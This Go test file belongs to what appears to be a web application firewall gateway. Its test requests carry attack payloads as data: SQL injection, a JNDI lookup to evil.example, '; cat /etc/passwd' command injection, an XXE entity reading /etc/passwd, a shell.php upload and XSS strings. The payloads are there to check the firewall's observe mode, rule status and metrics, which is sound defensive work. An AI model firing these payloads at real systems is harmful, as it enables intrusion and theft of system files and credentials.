package gateway_test

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"sallyport/internal/gate"
	"sallyport/internal/gateway"
	"sallyport/waf"
)

// rawBackend writes down what reaches it, byte for byte, and answers each
// request with the same bytes.
type rawBackend struct {
	mu   sync.Mutex
	seen bytes.Buffer
}

func (b *rawBackend) serve(c net.Conn, answer string) {
	defer c.Close()
	r := bufio.NewReader(io.TeeReader(c, b))
	for {
		req, err := http.ReadRequest(r)
		if err != nil {
			return
		}
		if _, err := io.Copy(io.Discard, req.Body); err != nil {
			return
		}
		if _, err := io.WriteString(c, answer); err != nil {
			return
		}
	}
}

// Write implements io.Writer.
func (b *rawBackend) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.seen.Write(p)
}

func (b *rawBackend) take() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	s := b.seen.String()
	b.seen.Reset()
	return s
}

// varies are what differs between any two requests: ids, times and the ports of
// the gateways.
var varies = regexp.MustCompile(`[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|Date: [^\r]*|127\.0\.0\.1:\d+|X-Forwarded-Port: \d+`)

// TestObserveChangesNoByte sends attacks through a policy that observes and one
// that is off: backend and client get the same bytes.
func TestObserveChangesNoByte(t *testing.T) {
	const multipart = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php\r\n--b--\r\n"
	answers := []string{
		"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello",
		"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nX-Odd:  a\r\nContent-Length: 61\r\n\r\nYou have an error in your SQL syntax near 'x' at line 1 <!-->",
		"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n3\r\n{\"a\r\n4\r\n\":1}\r\n0\r\n\r\n",
	}
	with := func(fields, body string) string {
		return fields + fmt.Sprintf("Content-Length: %d\r\n\r\n", len(body)) + body
	}
	requests := []string{
		"GET /?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\nHost: localhost\r\nUser-Agent: sqlmap/1.7\r\n\r\n",
		"GET /.git/config HTTP/1.1\r\nHost: localhost\r\nX-Api: ${jndi:ldap://evil.example/a}\r\nCookie: a=1; a=2\r\n\r\n",
		with("POST /form HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n", "a=<script>alert(1)</script>&b=%zz"),
		with("POST /json HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n", `{"a":"; cat /etc/passwd","a":2} trailing`),
		with("POST /xml HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/xml\r\n", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
		with("POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=b\r\n", multipart),
		"POST /chunked HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n' OR \r\n5\r\n1=1--\r\n0\r\n\r\n",
	}
	type got struct{ backend, client []string }
	results := map[string]got{}
	for _, mode := range []string{"off", "observe"} {
		var g got
		for _, answer := range answers {
			socket, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			backend := &rawBackend{}
			var wg sync.WaitGroup
			wg.Go(func() {
				for {
					c, err := socket.Accept()
					if err != nil {
						return
					}
					wg.Go(func() { backend.serve(c, answer) })
				}
			})
			e := openTo(t, socket.Addr().String(), small+"policies: {default: {mode: "+mode+", response_body: {inspect: all}}}\n")
			for _, request := range requests {
				c, err := net.Dial("tcp", e.address)
				if err != nil {
					t.Fatal(err)
				}
				_ = c.SetDeadline(time.Now().Add(20 * time.Second))
				if _, err := io.WriteString(c, strings.Replace(request, "\r\n", "\r\nConnection: close\r\n", 1)); err != nil {
					t.Fatal(err)
				}
				back, err := io.ReadAll(c)
				if err != nil {
					t.Fatal(err)
				}
				_ = c.Close()
				g.client = append(g.client, varies.ReplaceAllString(string(back), "…"))
				g.backend = append(g.backend, varies.ReplaceAllString(backend.take(), "…"))
			}
			e.close(t)()
			_ = socket.Close()
			wg.Wait()
		}
		results[mode] = g
	}
	off, observe := results["off"], results["observe"]
	for i := range off.client {
		if off.client[i] != observe.client[i] {
			t.Errorf("the client gets\n%q\nand with observe\n%q", off.client[i], observe.client[i])
		}
		if off.backend[i] != observe.backend[i] || off.backend[i] == "" {
			t.Errorf("the backend gets\n%q\nand with observe\n%q", off.backend[i], observe.backend[i])
		}
	}
}

// TestStatusNamesTheRules tells which Core Rule Set runs, and what is wrong with
// an exclusion.
func TestStatusNamesTheRules(t *testing.T) {
	e := open(t, http.HandlerFunc(leaky), small+"policies: {default: {exclusions: [old.yaml]}, strict: {paranoia: 2}, idle: {mode: off}, api: {rules_after: [own.conf]}}\n",
		"own.conf", "SecRule REQUEST_FILENAME \"@restpath /{a}\" \"id:1,phase:1,deny\"\n",
		"old.yaml", "exclusions: [{rule: 942100, target: ARGS:q, reason: a test, expires: 2020-01-31}]\n")
	gen, err := e.gateway.Build(7)
	if err != nil {
		t.Fatal(err)
	}
	defer gen.Close()
	status, ok := gen.Status().(gateway.Status)
	if !ok {
		t.Fatalf("Status is a %T", gen.Status())
	}
	if p := status.Policies["default"]; p.Engine != waf.FastEngine || p.Full || len(p.Unproven) > 0 {
		t.Errorf("how the rules are run: %+v, want the fast engine and no rule in its way", p)
	}
	if p := status.Policies["api"]; !p.Full || len(p.Unproven) != 1 || !strings.HasSuffix(p.Unproven[0], "own.conf:1): what @restpath does is not known") {
		t.Errorf("how the rules of api are run: %+v, want all of them, and why", p)
	}
	if p := status.Policies["default"]; p.CRS != "OWASP_CRS/4.25.0" || p.Rules < 600 || p.Ruleset == status.Policies["strict"].Ruleset || status.Policies["idle"].CRS != "" {
		t.Errorf("policies %+v", status.Policies)
	}
	if len(status.Warnings) != 1 || !strings.HasSuffix(status.Warnings[0], "old.yaml:1:70: warning: exclusions[0].expires: expired: it is not applied; remove it, or set a later day") {
		t.Errorf("warnings %q", status.Warnings)
	}
}

// TestHowRulesAreRunIsTold sends requests to policies whose rules are run in each
// way, and reads of it in records and metrics.
func TestHowRulesAreRunIsTold(t *testing.T) {
	e := open(t, http.HandlerFunc(leaky), `
listeners: [{address: "127.0.0.1:0"}]
pools: {app: {backends: [{url: "http://$BACKEND"}]}}
routes:
  - {name: api, paths: [/api], pool: app, policy: api}
  - {name: both, paths: [/both], pool: app, policy: both}
  - {name: off, paths: [/off], pool: app, policy: idle}
  - {name: rest, pool: app}
policies:
  default: {engine: fast}
  api: {rules_after: [own.conf]}
  both: {engine: compare, compare_share: 100%}
  idle: {mode: off}
audit: {path: $DIR/audit.jsonl, log: all}
state: {dir: $DIR/state}
`, "own.conf", "SecRule REQUEST_FILENAME \"@restpath /none/{a}\" \"id:1,phase:1,deny\"\n")
	const browser = "\nUser-Agent: Mozilla/5.0\nAccept: text/html"
	for _, tc := range []struct {
		target   string
		status   int
		run      string
		compared bool
	}{
		{"/?q=shoes", 200, gate.RunProven, false}, {"/?q=%3Cscript%3Ealert(1)%3C/script%3E", 403, gate.RunGuided, false},
		{"/api", 200, gate.RunFull, false}, {"/both", 200, gate.RunProven, true}, {"/both?q=%3Cscript%3Ealert(1)%3C/script%3E", 403, gate.RunGuided, true}, {"/off", 200, "", false},
	} {
		a := e.send(t, "GET "+tc.target+browser)
		r := e.notes.find(t, a.header.Get("X-Request-Id"))
		if a.status != tc.status || r.WAF == nil || r.WAF.Run != tc.run || r.WAF.Compared != tc.compared || r.WAF.Differs {
			t.Errorf("%s: status %d, %+v, want %d, run %q, compared %v", tc.target, a.status, r.WAF, tc.status, tc.run, tc.compared)
		}
	}
	w := httptest.NewRecorder()
	e.gateway.Metrics().ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/metrics", nil))
	for _, want := range []string{
		`sallyport_waf_requests_total{policy="default",run="proven"} 1`, `sallyport_waf_requests_total{policy="default",run="guided"} 1`, `sallyport_waf_requests_total{policy="api",run="full"} 1`,
		`sallyport_waf_compared_total{policy="both"} 2`, `sallyport_waf_differences_total{policy="both"} 0`,
	} {
		if !strings.Contains(w.Body.String(), want+"\n") {
			t.Errorf("/metrics lacks %s", want)
		}
	}
	if strings.Contains(w.Body.String(), `policy="idle"`) || strings.Contains(w.Body.String(), `compared_total{policy="default"}`) {
		t.Error("/metrics counts what does not happen")
	}
}
